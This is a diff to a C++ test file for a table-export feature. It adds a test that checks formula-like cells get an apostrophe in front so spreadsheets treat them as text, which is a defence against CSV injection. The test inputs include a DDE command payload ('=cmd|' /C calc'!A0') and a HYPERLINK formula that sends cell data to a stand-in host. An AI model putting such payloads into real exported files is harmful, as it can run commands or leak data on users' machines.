@@ -22,6 +22,7 @@ TEST(DecodeExportFormat, TurnsTheDialogChoicesIntoSeparatorEnclosingAndLineBreak
       {{S::Free, "#256"}, "ERROR - number must be a byte!"},
       {{S::Csv, "#8", E::Other, "#"}, "ERROR - # without number found!"},
       {{S::Csv, "#"}, ";||\r\n"},  // a free text not chosen is not decoded
+      {{S::Free, "ERROR - "}, "ERROR - ||\r\n"},  // a separator like any other
   };
   for (const auto& c : cases) {
     ExportFormat format;
@@ -100,12 +101,12 @@ TEST(WriteResultExport, StretchesJoinIntoTheWholeTextInItsEncoding) {
     for (TextEncoding encoding : {TextEncoding::Windows1252, TextEncoding::Utf8Bom}) {
       std::string joined;
       int parts = 0;
-      const size_t splitting = writeResultExport(result, order, numbers, format, encoding, [&](std::string_view part) {
+      const ExportCounts counts = writeResultExport(result, order, numbers, format, encoding, [&](std::string_view part) {
         joined += part;
         return ++parts < 1000;
       });
       EXPECT_EQ(joined, encodeExportText(BuildExportText(table, exported, format), encoding));
-      EXPECT_EQ(splitting, CountCellsThatSplit(table, exported, format));
+      EXPECT_EQ(counts.splitting, CountCellsThatSplit(table, exported, format));
       EXPECT_GE(parts, 2);
     }
   }
@@ -113,6 +114,41 @@ TEST(WriteResultExport, StretchesJoinIntoTheWholeTextInItsEncoding) {
   int parts = 0;
   writeResultExport(result, order, true, format, TextEncoding::Utf8, [&](std::string_view) { return ++parts < 2; });
   EXPECT_EQ(parts, 2);
+}
+
+// A spreadsheet opening delimited text runs a cell that reads as a formula;
+// an apostrophe in front keeps it text.
+TEST(BuildExportText, PutsAnApostropheBeforeCellsThatReadAsFormulas) {
+  for (const char* cell : {"=HYPERLINK(\"http://x\"&C2;\"Quelle\")", "=cmd|' /C calc'!A0", "= Churchill-32772", "=",
+                           "+A1", "-(1)", "@SUM(A1)", "-\xC3\x84rger"})
+    EXPECT_TRUE(readsAsFormula(cell)) << cell;
+  for (const char* cell : {"+ 1850", "-", "-5", "@#DJULIAN@ 24.04.1827", "a=b", " =1", "--", "+\xC3\x97",
+                           "-\xE2\x80\x93x", ""})
+    EXPECT_FALSE(readsAsFormula(cell)) << cell;
+  StringTable result(2);
+  const char* cells[3][2] = {{"=H", "H"}, {"=1\"", "-5"}, {"x", "@A"}};
+  result.setRowCount(3);
+  for (int r = 0; r < 3; ++r)
+    for (int c = 0; c < 2; ++c) result.setCell(c, r, cells[r][c]);
+  const StringTable table = makeExportTable(result, {0, 1});
+  const struct {
+    ExportFormat format;
+    std::string expected;  // the header row is ours and stays
+  } cases[] = {
+      {{";", "", "\n"}, ";=H;H\n1;'=1\";-5\n2;x;'@A"},
+      {{";", "\"", "\n"}, "\"\";\"=H\";\"H\"\n\"1\";\"'=1\"\"\";\"-5\"\n\"2\";\"x\";\"'@A\""},
+      {{";", "", "\n", true}, ";=H;H\n1;=1\";-5\n2;x;@A"},
+  };
+  for (const auto& c : cases) {
+    EXPECT_EQ(BuildExportText(table, {true, true, true}, c.format), c.expected);
+    std::string written;
+    const ExportCounts counts = writeResultExport(result, {0, 1}, true, c.format, TextEncoding::Utf8,
+                                                  [&](std::string_view part) { return written += part, true; });
+    EXPECT_EQ(written, c.expected);
+    EXPECT_EQ(counts.formulas, 2u);
+  }
+  EXPECT_EQ(CountFormulaCells(table, {true, true, true}), 2u);
+  EXPECT_EQ(CountFormulaCells(table, {true, false, true}), 1u);
 }
 
 TEST(EncodeExportText, WritesTheTextInTheChosenEncoding) {
